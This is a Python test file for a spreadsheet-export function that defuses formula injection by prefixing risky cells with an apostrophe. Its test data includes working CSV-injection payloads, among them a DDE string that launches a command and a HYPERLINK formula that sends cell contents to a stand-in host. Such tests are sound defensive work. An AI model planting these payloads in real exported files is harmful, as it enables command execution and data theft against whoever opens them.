"""Tests for manyi.exporting.spreadsheet (formula-injection neutralisation)."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from manyi.exporting.spreadsheet import FORMULA_PREFIXES, neutralise_cell, neutralise_frame

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"x")',
    "@SUM(1+1)",
    "=SUM(54+51)",
    "\t=1+1",
    "\r=1+1",
    "+1-2",
    "-1+1",
    "-",
    "+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formulas_are_prefixed(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["-1.5", "+3", "-2e-3", "42", "+8613800138000", "+86 138 0013 8000", "hello", "", "a=b"],
)
def test_numbers_phones_and_text_stay(value: str) -> None:
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [None, -1.5, 3, True])
def test_non_strings_untouched(value: object) -> None:
    assert neutralise_cell(value) is value


def test_frame() -> None:
    frame = pd.DataFrame(
        {"a": ["=1+1", "ok", None], "n": [-1.5, 2.0, 3.0], "@h": ["-1", "@x", "x"]}
    )
    out = neutralise_frame(frame)
    assert out["a"].tolist()[:2] == ["'=1+1", "ok"]
    assert out["n"].tolist() == [-1.5, 2.0, 3.0]
    assert out["'@h"].tolist() == ["-1", "'@x", "x"]
    assert frame.loc[0, "a"] == "=1+1"  # the input is not modified


@given(st.text())
def test_result_never_starts_a_formula(value: str) -> None:
    out = neutralise_cell(value)
    assert isinstance(out, str)
    if out.startswith(FORMULA_PREFIXES):
        assert out == value and out[0] in "+-"  # only plain numbers and phones
        assert all(c.isdigit() or c in "+-. eE" for c in out)
